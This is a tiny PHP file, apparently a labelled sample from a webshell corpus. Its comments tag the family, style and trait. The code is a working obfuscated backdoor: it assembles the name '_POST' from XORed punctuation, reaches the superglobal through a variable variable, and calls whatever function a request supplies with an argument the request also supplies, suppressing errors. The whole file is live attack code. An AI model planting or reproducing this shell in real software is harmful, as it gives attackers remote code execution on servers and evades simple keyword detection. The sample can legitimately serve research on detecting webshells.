<?php
// Family: webshell/callback
// Style: non-alphanumeric style: the superglobal named through a variable variable, the function and its argument both taken from it
// Trait: ${$__}[!$_](${$__}[$_]) with $__ = '_POST' (XOR of symbol pairs) calls $_POST[0] with $_POST[1]
@$_++;
$__ = ('!' ^ '~') . ('+' ^ '{') . ('/' ^ '`') . ('(' ^ '{') . ('(' ^ '|');
@${$__}[!$_](${$__}[$_]);
